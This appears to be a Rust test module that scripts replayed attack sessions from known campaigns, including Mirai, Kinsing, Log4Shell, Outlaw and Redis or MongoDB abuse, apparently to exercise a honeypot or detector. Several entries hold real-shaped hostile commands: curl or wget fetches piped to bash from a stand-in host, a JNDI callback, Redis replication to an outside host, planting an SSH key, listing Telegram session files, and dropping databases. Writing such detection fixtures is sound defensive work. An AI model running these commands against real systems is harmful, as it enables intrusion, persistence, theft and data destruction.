//! The campaigns that are played: what each one's machines do, after public reports, in words that do nothing.

/// What a machine does in its session.
#[derive(Clone, Copy)]
pub(super) enum Act {
    Client(&'static str),
    Login(&'static str, &'static str),
    Command(&'static str),
    Get(&'static str, &'static str),
    Post(&'static str, &'static str),
    Bytes(&'static [u8]),
    Note(&'static str, &'static str),
}
use Act::{Bytes, Client, Command, Get, Login, Note, Post};

/// A campaign: the id that it must be recognised as (none: unknown), where, and what its machines do.
pub(super) type Script =
    (Option<&'static str>, &'static [&'static str], &'static str, &'static [Act]);

pub(super) const AGENT: &str = "Mozilla/5.0";
const KEY: &str = "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAALOOKALIKE mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh";

/// In such an order that no port comes again within some days.
pub(super) const SCRIPTS: &[Script] = &[
    (
        Some("mirai"),
        &["tcp/23", "tcp/2323"],
        "telnet",
        &[
            Login("root", "xc3511"),
            Command("enable"),
            Command("sh"),
            Command("/bin/busybox ECCHI"),
            Command("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"),
            Command(">/tmp/.ptmx && cd /tmp/"),
        ],
    ),
    (
        Some("redtail"),
        &["tcp/22"],
        "ssh",
        &[
            Client("SSH-2.0-Go"),
            Login("root", "abc123!@#"),
            Command(
                "chmod +x clean.sh; sh clean.sh; rm -rf clean.sh; chmod +x setup.sh; sh setup.sh; rm -rf setup.sh; ./redtail.x86_64 ssh",
            ),
        ],
    ),
    (
        Some("eternalblue"),
        &["tcp/445"],
        "smb",
        &[
            Note("smb exploit", "MS17-010 probe"),
            Note("smb exploit", "MS17-010"),
            Note("doublepulsar", "ping"),
        ],
    ),
    (
        Some("redis-cron"),
        &["tcp/6379"],
        "redis",
        &[
            Command("INFO"),
            Command("CONFIG SET dir /var/spool/cron"),
            Note("redis class", "cron drop"),
            Command("CONFIG SET dbfilename root"),
            Command("SAVE"),
        ],
    ),
    (
        Some("phpunit"),
        &["tcp/80"],
        "http",
        &[Post(
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "<?php echo 'look-alike'; ?>",
        )],
    ),
    (
        Some("docker-miner"),
        &["tcp/2375"],
        "http",
        &[
            Get("/containers/json", AGENT),
            Post(
                "/containers/create",
                "{\"Image\":\"look-alike\",\"HostConfig\":{\"Binds\":[\"/:/mnt\"]}}",
            ),
        ],
    ),
    (
        Some("vnc-guessing"),
        &["tcp/5900"],
        "vnc",
        &[Client("RFB 003.008"), Login("", "123456"), Login("", "password")],
    ),
    (
        Some("satori-huawei"),
        &["tcp/37215"],
        "http",
        &[Post("/ctrlt/DeviceUpgrade_1", "<NewStatusURL>$(look-alike)</NewStatusURL>")],
    ),
    (
        Some("outlaw"),
        &["tcp/22"],
        "ssh",
        &[
            Client("SSH-2.0-libssh_0.9.6"),
            Login("root", "12qwaszx"),
            Command("cd ~; chattr -ia .ssh; lockr -ia .ssh"),
            Command(KEY),
        ],
    ),
    (None, &["tcp/47001"], "unknown", &[Bytes(b"\x13\x37FROB-JOIN 1 look-alike")]),
    (
        Some("slammer"),
        &["udp/1434"],
        "mssql",
        &[Bytes(&[4, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1])],
    ),
    (
        Some("log4shell"),
        &["tcp/8080"],
        "http",
        &[Get("/?x=${jndi:ldap://198.51.100.9:1389/a}", AGENT)],
    ),
    (
        Some("sip-fraud"),
        &["tcp/5060"],
        "sip",
        &[Client("friendly-scanner"), Bytes(b"OPTIONS sip:100@203.0.113.10 SIP/2.0\r\n")],
    ),
    (
        Some("mongodb-ransom"),
        &["tcp/27017"],
        "mongodb",
        &[
            Command("admin {listDatabases: 1}"),
            Command("shop {dropDatabase: 1}"),
            Note("mongodb class", "deletion"),
            Note("mongodb class", "ransom note"),
        ],
    ),
    (
        Some("adb-miner"),
        &["tcp/5555"],
        "adb",
        &[
            Command("shell:cd /data/local/tmp; rm -rf *; busybox wget http://198.51.100.9/w.sh"),
            Command("pm path com.ufo.miner"),
        ],
    ),
    (
        Some("xorddos"),
        &["tcp/22"],
        "ssh",
        &[
            Login("root", "huigezi"),
            Command(
                "echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab; cp /lib/libudev.so /lib/libudev.so.6",
            ),
        ],
    ),
    (
        Some("rdp-guessing"),
        &["tcp/3389"],
        "rdp",
        &[
            Bytes(b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"),
            Login("Administrator", "P@ssw0rd"),
        ],
    ),
    (
        Some("elasticsearch-ransom"),
        &["tcp/9200"],
        "elasticsearch",
        &[
            Get("/_cat/indices?v", AGENT),
            Note("elasticsearch class", "delete"),
            Post("/read_me/_doc", "{\"message\":\"look-alike\"}"),
            Note("elasticsearch class", "ransom note"),
        ],
    ),
    (
        Some("citrixbleed"),
        &["tcp/443"],
        "https",
        &[Get("/oauth/idp/.well-known/openid-configuration", AGENT)],
    ),
    (
        Some("p2pinfect"),
        &["tcp/6379"],
        "redis",
        &[
            Command("SLAVEOF 198.51.100.9 60100"),
            Note("redis class", "replication"),
            Command("MODULE LOAD /tmp/exp.so"),
            Note("redis class", "module"),
            Command("SLAVEOF NO ONE"),
        ],
    ),
    (
        Some("gpon"),
        &["tcp/8081"],
        "http",
        &[Post(
            "/GponForm/diag_Form?images/",
            "XWebPageName=diag&diag_action=ping&dest_host=look-alike",
        )],
    ),
    (
        Some("mssql-takeover"),
        &["tcp/1433"],
        "mssql",
        &[
            Login("sa", "sa"),
            Note("mssql class", "option changed"),
            Command("EXEC xp_cmdshell 'look-alike'"),
            Note("mssql class", "xp_cmdshell"),
        ],
    ),
    (
        Some("mozi"),
        &["tcp/60001"],
        "http",
        &[Get(
            "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9:38190/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws",
            "Hello, world",
        )],
    ),
    (
        Some("radmin-search"),
        &["tcp/4899"],
        "radmin",
        &[Bytes(b"\x01\x00\x00\x00\x01\x00\x00\x00\x08\x08")],
    ),
    (
        Some("telegram-theft"),
        &["tcp/22"],
        "ssh",
        &[
            Client("SSH-2.0-Go"),
            Login("root", "q1w2e3"),
            Command(
                "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* /var/spool/sms/*",
            ),
        ],
    ),
    (
        Some("hadoop-yarn"),
        &["tcp/8088"],
        "http",
        &[Post("/ws/v1/cluster/apps/new-application", "{}")],
    ),
    (
        Some("smtp-relay"),
        &["tcp/25"],
        "smtp",
        &[
            Client("EHLO look-alike.example"),
            Command("MAIL FROM:<a@example.com>"),
            Command("RCPT TO:<b@example.net>"),
        ],
    ),
    (Some("ntp-amplification"), &["udp/123"], "ntp", &[Note("amplification", "ntp monlist")]),
    (
        Some("wordpress-guessing"),
        &["tcp/80"],
        "http",
        &[
            Get("/?author=1", AGENT),
            Post("/wp-login.php", "log=admin&pwd=look-alike"),
            Post(
                "/xmlrpc.php",
                "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>",
            ),
        ],
    ),
    (
        Some("postgresql-program"),
        &["tcp/5432"],
        "postgresql",
        &[
            Login("postgres", "postgres"),
            Command("COPY t FROM PROGRAM 'look-alike'"),
            Note("postgresql class", "program"),
        ],
    ),
    (
        Some("proxyshell"),
        &["tcp/8443"],
        "https",
        &[Get(
            "/autodiscover/autodiscover.json?@look-alike.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@look-alike.example",
            AGENT,
        )],
    ),
    (
        Some("solana-guessing"),
        &["tcp/2222"],
        "ssh",
        &[
            Client("SSH-2.0-Go"),
            Login("solana", "solana"),
            Login("validator", "validator"),
            Login("sol", "sol"),
        ],
    ),
    (None, &["tcp/8090"], "http", &[Get("/frob/nicate.cgi?join=look-alike", "frobnicator")]),
    (
        Some("kinsing"),
        &["tcp/22"],
        "ssh",
        &[
            Login("oracle", "oracle1"),
            Command(
                "(curl -s http://198.51.100.9/unk.sh || wget -q -O- http://198.51.100.9/unk.sh) | bash; pgrep kinsing; pgrep kdevtmpfsi",
            ),
        ],
    ),
];
